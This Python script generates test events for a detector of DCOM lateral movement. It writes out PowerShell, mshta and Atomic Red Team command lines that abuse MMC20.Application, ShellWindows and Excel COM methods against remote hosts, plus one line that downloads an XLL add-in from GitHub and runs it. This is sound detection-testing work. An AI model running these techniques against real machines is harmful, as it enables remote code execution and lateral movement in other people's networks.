#!/usr/bin/env python3
"""Write testdata/dualuse/: process creations that use each dual-use token
(internal/rules/tables.go dual_use_tokens) locally, against a remote
computer and against this computer, as Sysmon 1 and Security 4688, rendered
into the body shapes the real receivers produce (render_catalogue.py).
dualuse.jsonl holds the events with what the extended profile must make of
them (pattern, evidence) and why. Output is committed; tests read it.

The local uses are the tokens' ordinary ones: Office and MMC automation,
Excel add-ins, Explorer's ShellWindows, as scripts write them. The ART
events are Atomic Red Team's tests as their atomics/*.yaml write them
(T1137.006 test 441b1a0f, T1546.015 test 752191b1), wrapped as Invoke-AtomicTest's
PowerShell executor runs them; both are local.
"""
import base64, os, sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import render_catalogue as rc  # noqa: E402

OUT = os.path.join(HERE, "..", "..", "testdata", "dualuse")
rc.DOMAIN = "dualuse.test"

POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
MSHTA = "C:\\Windows\\System32\\mshta.exe"
SI = "DCOM_SourceInvocation"

# token -> (how a script uses it locally: a statement creating the object,
# then the use; the object's ProgID for the remote form)
USES = {
    "MMC20.Application": ('$m = [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application"{host}))', None),
    "49B2791A-B1AE-4C90-9B8E-E860BA07F889": ('$m = [activator]::CreateInstance([type]::GetTypeFromCLSID("49B2791A-B1AE-4C90-9B8E-E860BA07F889"{host}))', None),
    "9BA05972-F6A8-11CF-A442-00A0C90A8F39": ('$o = [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39"{host})); $o.Item()', None),
    "C08AFD90-F2A1-11D1-8455-00A0C91F3880": ('$o = [activator]::CreateInstance([type]::GetTypeFromCLSID("C08AFD90-F2A1-11D1-8455-00A0C91F3880"{host}))', None),
    "ExecuteShellCommand": ('$m = [activator]::CreateInstance([type]::GetTypeFromProgID($progId{host})); $m.Document.ActiveView.ExecuteShellCommand("cmd", $null, "/c calc.exe", "7")', None),
    "Document.Application.ShellExecute": ('$w = [activator]::CreateInstance([type]::GetTypeFromProgID($shellId{host})).Item(); $w.Document.Application.ShellExecute("cmd.exe", "/c calc.exe", "C:\\windows\\system32", $null, 0)', None),
    "DDEInitiate": ('$xl = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"{host})); $ch = $xl.DDEInitiate("cmd", "/c calc.exe")', None),
    "RegisterXLL": ('$xl = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"{host})); $xl.RegisterXLL("C:\\Users\\Public\\addin.xll")', None),
    "ActivateMicrosoftApp": ('$xl = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"{host})); $xl.ActivateMicrosoftApp("5")', None),
    "ExecuteExcel4Macro": ('$xl = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"{host})); $xl.ExecuteExcel4Macro(\'EXEC("calc.exe")\')', None),
}

ART_T1137_006 = ("iwr -URI 'https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1137.006/bin/HelloWorldXll.xll'"
                 ' -o "$env:tmp\\HelloWorldXll.xll"; (new-object -ComObject excel.application).RegisterXLL("$env:tmp\\HelloWorldXll.xll")\n')
ART_T1546_015 = ('$o= [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39"))\n'
                 '$item = $o.Item()\n'
                 '$item.Document.Application.ShellExecute("cmd.exe","/c calc.exe","C:\\windows\\system32",$null,0)')


def encode(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def art(command):
    # Invoke-AtomicTest's PowerShell executor: & {...}, quotes doubled and escaped.
    return '"powershell.exe" & {' + command.replace('"', '\\""') + '}'


def process_event(kind, command_line):
    image = MSHTA if command_line.startswith("mshta.exe") else POWERSHELL
    if kind == 1:
        return {"EventID": 1, "Image": image, "ParentImage": EXPLORER, "CommandLine": command_line,
                "ParentCommandLine": "C:\\Windows\\Explorer.EXE", "User": "CORP\\alice",
                "OriginalFileName": os.path.basename(image.replace("\\", "/"))}
    return {"EventID": 4688, "NewProcessName": image, "ParentProcessName": EXPLORER,
            "CommandLine": command_line, "SubjectUserName": "alice", "SubjectDomainName": "CORP",
            "TargetUserName": "-", "TargetDomainName": "-"}


def cases():
    """(command line, pattern, evidence, why[, local evidence]) per case; {self} is the
    event's own computer; the local evidence is COM_LocalAutomation's, when switched on."""
    out = []
    for token, (use, _) in USES.items():
        local = use.format(host="")
        out.append(("powershell.exe -NoProfile -Command \"" + local + "\"", "none", "",
                    token + " used on this computer", token + " without a target"))
        remote = use.format(host=', "10.20.30.40"')
        call = "GetTypeFromCLSID" if "GetTypeFromCLSID" in use else "GetTypeFromProgID"
        out.append(("powershell.exe -NoProfile -Command \"" + remote + "\"", SI, call + " with a remote host",
                    token + " on an object created on a remote computer"))
        out.append(("powershell.exe -NoProfile -Command \"" + local + "\" -ComputerName srv07", SI,
                    token + " with a remote target", token + " with -ComputerName naming another computer"))
        out.append(("powershell.exe -NoProfile -Command \"" + local + "\" -ComputerName localhost", SI,
                    token + " with a loopback target", token + " with -ComputerName localhost: loopback counts"))
        out.append(("powershell.exe -NoProfile -Command \"" + local + "\" -ComputerName {self}", SI,
                    token + " with a loopback target", token + " with -ComputerName naming the event's own computer"))
        out.append(("powershell.exe -NoP -EncodedCommand " + encode(local), "none", "",
                    token + " used on this computer, encoded",
                    token + " without a target (decoded from -EncodedCommand)"))
        out.append(("powershell.exe -NoP -EncodedCommand " + encode(local + " -ComputerName srv07"), SI,
                    token + " with a remote target (decoded from -EncodedCommand)", token + " with a target, encoded"))
    out += [
        (art(ART_T1137_006), "none", "", "Atomic Red Team T1137.006 test 441b1a0f: a local Excel add-in",
         "RegisterXLL without a target"),
        (art(ART_T1546_015), "none", "", "Atomic Red Team T1546.015 test 752191b1: local ShellWindows",
         "9BA05972-F6A8-11CF-A442-00A0C90A8F39 without a target"),
        (art(ART_T1546_015.replace('"9BA05972-F6A8-11CF-A442-00A0C90A8F39")', '"9BA05972-F6A8-11CF-A442-00A0C90A8F39","fs09")')),
         SI, "GetTypeFromCLSID with a remote host", "T1546.015's ShellWindows against a remote computer"),
        ('powershell.exe -Command "$xl = [type]::GetTypeFromProgID(\'Excel.Application\', $true); $xl.RegisterXLL(\'a.xll\')"',
         "none", "", "GetTypeFromProgID(progID, throwOnError): no server", "RegisterXLL without a target"),
        ('powershell.exe -Command "$x = [type]::GetTypeFromProgID(\'Excel.Application\', $null)"', "none", "",
         "a $null server is this computer"),
        ('mshta.exe vbscript:Execute("Set x = CreateObject(""Excel.Application"", ""srv07""): x.RegisterXLL ""a.xll"": close")',
         SI, "CreateObject with a remote host", "VBScript CreateObject with a server name"),
        ('mshta.exe vbscript:Execute("Set x = CreateObject(""Excel.Application""): x.RegisterXLL ""a.xll"": close")',
         "none", "", "VBScript CreateObject on this computer", "RegisterXLL without a target"),
        ('mshta.exe vbscript:Execute("Set x = WScript.CreateObject(""Excel.Application"", ""xl_""): x.RegisterXLL ""a.xll"": close")',
         "none", "", "WScript.CreateObject's second argument is an event prefix", "RegisterXLL without a target"),
        ('mshta.exe javascript:o=new ActiveXObject("MMC20.Application","srv07");o.Document.ActiveView.ExecuteShellCommand("cmd")',
         SI, "ActiveXObject with a remote host", "JScript ActiveXObject with a server name"),
        ('powershell.exe -Command "[activator]::CreateInstance([type]::GetTypeFromProgID(\'MMC20.Application\', \'127.0.0.1\'))"',
         SI, "GetTypeFromProgID with a loopback host", "127.0.0.1 is loopback, and counts"),
        ('powershell.exe -Command "[activator]::CreateInstance([type]::GetTypeFromProgID(\'MMC20.Application\', $env:COMPUTERNAME))"',
         SI, "GetTypeFromProgID with a loopback host", "$env:COMPUTERNAME is loopback, and counts"),
        ('powershell.exe -Command "Invoke-DCOM -ComputerName localhost -Method MMC20.Application -Command calc.exe"',
         SI, "Invoke-DCOM", "a DCOM lateral movement tool counts whatever its target"),
    ]
    return out


def main():
    os.makedirs(OUT, exist_ok=True)
    recs = []
    n = 0
    for kind in (1, 4688):
        for case in cases():
            cmd, pattern, evidence, why = case[:4]
            n += 1
            ident = "D%03d" % n
            recs.append({"id": ident, "event": process_event(kind, cmd.replace("{self}", ident)),
                         "pattern": pattern, "evidence": evidence, "why": why,
                         "local_evidence": case[4] if len(case) > 4 else ""})
    rc.render(recs, OUT, "dualuse.jsonl")


if __name__ == "__main__":
    sys.exit(main())
